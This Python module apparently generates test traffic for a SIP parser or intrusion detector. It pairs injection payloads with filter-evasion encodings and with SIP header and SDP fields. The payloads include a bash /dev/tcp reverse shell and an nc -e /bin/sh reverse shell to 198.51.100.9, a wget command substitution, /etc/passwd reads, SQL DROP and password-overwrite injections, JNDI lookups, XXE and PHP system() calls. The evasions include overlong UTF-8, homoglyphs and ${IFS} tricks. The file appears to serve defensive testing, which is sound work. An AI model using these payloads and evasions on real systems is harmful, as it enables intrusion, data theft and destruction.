"""Attacks in disguise and in odd places: every transform that hides a payload, every part that can carry one."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Final

from embed import message, quoted, userinfo

#: One plain attack of each class, without anything that only a disguise would add.
PLAIN: Final = {
    "sql-tautology": b"' or 1=1--",
    "sql-union": b"1 union select password from subscriber",
    "sql-update": b"UPDATE users SET password='x' WHERE username='admin'",
    "sql-drop": b"'; drop table location;--",
    "shell-dev-tcp": b"bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
    "shell-substitution": b"$(wget http://198.51.100.9/x)",
    "shell-chain": b"; cat /etc/passwd",
    "shell-pipe": b"| nc 198.51.100.9 4444 -e /bin/sh",
    "path": b"../../../../etc/passwd",
    "xss": b"<script>alert(1)</script>",
    "xss-handler": b"<img src=x onerror=alert(1)>",
    "template": b"{{7*7}}",
    "jndi": b"${jndi:ldap://198.51.100.9/a}",
    "ldap": b"*)(uid=*))(|(uid=*",
    "nosql": b'{"$gt": ""}',
    "xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "code": b"<?php system('id'); ?>",
    "ssi": b'<!--#exec cmd="id"-->',
}


def _percent(text: bytes) -> bytes:
    return b"".join(b"%%%02x" % byte for byte in text)


def _special(text: bytes, form: Callable[[int], bytes]) -> bytes:
    return b"".join(form(b) if not chr(b).isalnum() and b != 0x20 else bytes((b,)) for b in text)


def _fullwidth(text: bytes) -> bytes:
    return "".join(chr(c + 0xFEE0) if 0x21 <= c <= 0x7E else chr(c) for c in text).encode()


#: Name → what it makes of a text. A backend, library or tool undoes each of them somewhere.
DISGUISES: Final[dict[str, Callable[[bytes], bytes]]] = {
    "plain": lambda t: t,
    "upper": lambda t: t.upper() if b"$" not in t and b"/" not in t else t,
    "mixed case": lambda t: bytes(c ^ 0x20 if n % 2 and chr(c).isalpha() else c for n, c in enumerate(t)),
    "percent": _percent,
    "percent specials": lambda t: _special(t, lambda b: b"%%%02X" % b),
    "double percent": lambda t: _percent(t).replace(b"%", b"%25"),
    "triple percent": lambda t: _special(t, lambda b: b"%%2525%02x" % b),
    "percent u": lambda t: _special(t, lambda b: b"%%u%04x" % b),
    "entities": lambda t: _special(t, lambda b: b"&#%d;" % b),
    "hex entities": lambda t: _special(t, lambda b: b"&#x%x;" % b),
    "escapes": lambda t: _special(t, lambda b: b"\\x%02x" % b),
    "unicode escapes": lambda t: _special(t, lambda b: b"\\u%04x" % b),
    "full width": _fullwidth,
    "full width percent": lambda t: _percent(_fullwidth(t)),
    "overlong": lambda t: _special(t, lambda b: bytes((0xC0 | b >> 6, 0x80 | b & 0x3F))),
    "overlong percent": lambda t: _special(t, lambda b: b"%%%02x%%%02x" % (0xC0 | b >> 6, 0x80 | b & 0x3F)),
    "typographic": lambda t: t.replace(b"'", "’".encode()).replace(b'"', "”".encode()),
    "zero width": lambda t: t.replace(b"e", "e\u200b".encode()).replace(b"o", "o\u200d".encode()),
    "soft hyphen": lambda t: t.replace(b"s", "s\u00ad".encode()),
    "homoglyphs": lambda t: t.decode().replace("o", "о").replace("e", "е").replace("a", "а").encode(),
    "tabs": lambda t: t.replace(b" ", b"\t"),
    "wide spaces": lambda t: t.replace(b" ", "\u3000".encode()),
    "no-break": lambda t: t.replace(b" ", "\u00a0".encode()),
    "plus": lambda t: t.replace(b" ", b"+"),
    "comments": lambda t: t.replace(b" ", b"/**/"),
    "comments with text": lambda t: t.replace(b" ", b"/*x*/"),
    "versioned comment": lambda t: t.replace(b"union select", b"/*!50000union*//*!select*/").replace(
        b"drop", b"/*!drop*/"
    ),
    "line feeds": lambda t: t.replace(b" ", b"%0a"),
    "nul": lambda t: t.replace(b" ", b" %00"),
    "nul inside": lambda t: t[:4] + b"%00" + t[4:],
    "padded": lambda t: b"Alice Smith " * 8 + t,
    "suffixed": lambda t: t + b" and a few more words behind it",
    "empty quotes": lambda t: t.replace(b"cat", b"c''at").replace(b"wget", b"w''get").replace(b"bash", b"ba''sh"),
    "quotes": lambda t: t.replace(b"cat", b"c'a't").replace(b"wget", b"w'g'et").replace(b"bash", b"b'a'sh"),
    "backslashes": lambda t: t.replace(b"cat", b"c\\at").replace(b"wget", b"w\\get").replace(b"bash", b"b\\ash"),
    "ifs": lambda t: t.replace(b" ", b"${IFS}") if b"cat" in t or b"wget" in t or b"nc " in t else t,
    "at": lambda t: t.replace(b"cat", b"c$@at").replace(b"wget", b"wg$@et"),
    "globs": lambda t: t.replace(b"/etc/passwd", b"/e??/p?ss??"),
}


def _raw(name: str) -> Callable[[bytes], bytes]:
    return lambda t: message(more=name.encode() + b": " + t + b"\r\n")


def reply(text: bytes, line: bytes = b"SIP/2.0 200 OK", header: bytes = b"Server: ") -> bytes:
    return (
        line + b"\r\nVia: SIP/2.0/UDP 192.0.2.1;branch=z9hG4bK4b43c2ff8.1\r\nFrom: <sip:a@example.com>;tag=1\r\n"
        b"To: <sip:b@example.com>;tag=2\r\nCall-ID: a84b4c76e66710\r\nCSeq: 1 INVITE\r\n"
        + (header + text + b"\r\n" if header else b"")
        + b"Content-Length: 0\r\n\r\n"
    )


def _sdp(line: bytes) -> bytes:
    body = (
        b"v=0\r\no=- 1 1 IN IP4 192.0.2.4\r\ns=-\r\n"
        + line
        + b"\r\nc=IN IP4 192.0.2.4\r\nt=0 0\r\nm=audio 4000 RTP/AVP 0\r\n"
    )
    return message(more=b"Content-Type: application/sdp\r\n", body=body)


def _no_space(text: bytes) -> bytes:
    return text.replace(b" ", b"%20")


#: Place → the message that carries a text there.
PLACES: Final[dict[str, Callable[[bytes], bytes]]] = {
    "from display": lambda t: message(from_=b'"' + quoted(t) + b'" <sip:a@example.com>;tag=1'),
    "from display unescaped": lambda t: message(from_=b'"' + t.replace(b'"', b"'") + b'" <sip:a@example.com>;tag=1'),
    "from user": lambda t: message(from_=b"<sip:" + userinfo(t) + b"@example.com>;tag=1"),
    "from user raw": lambda t: message(
        from_=b"<sip:" + _no_space(t).replace(b"<", b"%3c").replace(b">", b"%3e") + b"@example.com>;tag=1"
    ),
    "from password": lambda t: message(from_=b"<sip:a:" + userinfo(t) + b"@example.com>;tag=1"),
    "from parameter": lambda t: message(from_=b'<sip:a@example.com>;tag=1;x="' + quoted(t) + b'"'),
    "compact from": lambda t: (
        message(from_=b'"A" <sip:a@example.com>;tag=1')
        .replace(b"From: ", b"f: ")
        .replace(b'"A"', b'"' + quoted(t) + b'"')
    ),
    "spaced name": lambda t: message(agent=t).replace(b"User-Agent:", b"User-Agent \t :"),
    "folded": lambda t: message(more=b"Subject:\r\n " + t.replace(b" ", b"\r\n ") + b"\r\n"),
    "second contact": lambda t: message(more=b'Contact: "' + quoted(t) + b'" <sip:b@192.0.2.4>\r\n'),
    "second in contact": lambda t: message(contact=b'<sip:a@192.0.2.4>, "' + quoted(t) + b'" <sip:b@192.0.2.4>'),
    "second user in contact": lambda t: message(contact=b"<sip:a@192.0.2.4>,<sip:" + userinfo(t) + b"@192.0.2.4>"),
    "uri header": lambda t: message(
        contact=b"<sip:a@192.0.2.4?Subject=" + userinfo(t).replace(b"&", b"%26").replace(b";", b"%3b") + b">"
    ),
    "uri parameter": lambda t: message(
        contact=b"<sip:a@192.0.2.4;x=" + userinfo(t).replace(b";", b"%3b").replace(b"?", b"%3f") + b">"
    ),
    "request uri": lambda t: message(uri=b"sip:" + userinfo(t) + b"@example.com"),
    "tel uri": lambda t: message(from_=b"<tel:+1555;phone-context=" + userinfo(t).replace(b";", b"%3b") + b">;tag=1"),
    "via parameter": lambda t: message(via=b'SIP/2.0/UDP 192.0.2.4;branch=z9hG4bKx;i="' + quoted(t) + b'"'),
    "second via": lambda t: message(more=b'Via: SIP/2.0/UDP 192.0.2.9;branch=z9hG4bKy;i="' + quoted(t) + b'"\r\n'),
    "call-id": lambda t: message(call_id=_no_space(t) + b"@192.0.2.4"),
    "user-agent": lambda t: message(agent=t),
    "user-agent comment": lambda t: message(agent=b"Phone 1.0 (" + t + b")"),
    "subject": _raw("Subject"),
    "compact subject": _raw("s"),
    "organization": _raw("Organization"),
    "x header": _raw("X-Account"),
    "unknown header": _raw("Foo"),
    "pai": lambda t: message(more=b'P-Asserted-Identity: "' + quoted(t) + b'" <sip:a@example.com>\r\n'),
    "pai user": lambda t: message(more=b"P-Asserted-Identity: <sip:" + userinfo(t) + b"@example.com>\r\n"),
    "rpid": lambda t: message(more=b'Remote-Party-ID: "' + quoted(t) + b'" <sip:a@example.com>;party=calling\r\n'),
    "diversion": lambda t: message(more=b"Diversion: <sip:" + userinfo(t) + b"@example.com>;reason=unconditional\r\n"),
    "refer-to": lambda t: message(more=b"Refer-To: <sip:" + userinfo(t) + b"@example.com>\r\n"),
    "reason text": lambda t: message(more=b'Reason: Q.850;cause=16;text="' + quoted(t) + b'"\r\n'),
    "route": lambda t: message(more=b"Route: <sip:" + userinfo(t) + b"@192.0.2.1;lr>\r\n"),
    "digest username": lambda t: message(
        more=b'Authorization: Digest username="' + quoted(t) + b'", realm="a", nonce="b", uri="sip:c", response="d"\r\n'
    ),
    "digest realm": lambda t: message(
        more=b'Authorization: Digest username="a", realm="' + quoted(t) + b'", nonce="b", uri="sip:c", response="d"\r\n'
    ),
    "sdp session": lambda t: _sdp(b"i=" + t),
    "sdp uri": lambda t: _sdp(b"u=" + t),
    "reply server": reply,
    "reply phrase": lambda t: reply(t, b"SIP/2.0 200 " + t, b""),
    "reply contact": lambda t: reply(b'"' + quoted(t) + b'" <sip:b@192.0.2.4>', header=b"Contact: "),
    "reply warning": lambda t: reply(b'399 host "' + quoted(t) + b'"', header=b"Warning: "),
}


def disguised() -> Iterator[tuple[str, str, str, bytes, bytes]]:
    """Attack, disguise, place, the disguised text, the message."""
    for attack, plain in PLAIN.items():
        for disguise, change in DISGUISES.items():
            text = change(plain)
            if text == plain and disguise != "plain":
                continue
            for place, put in PLACES.items():
                yield attack, disguise, place, text, put(text)
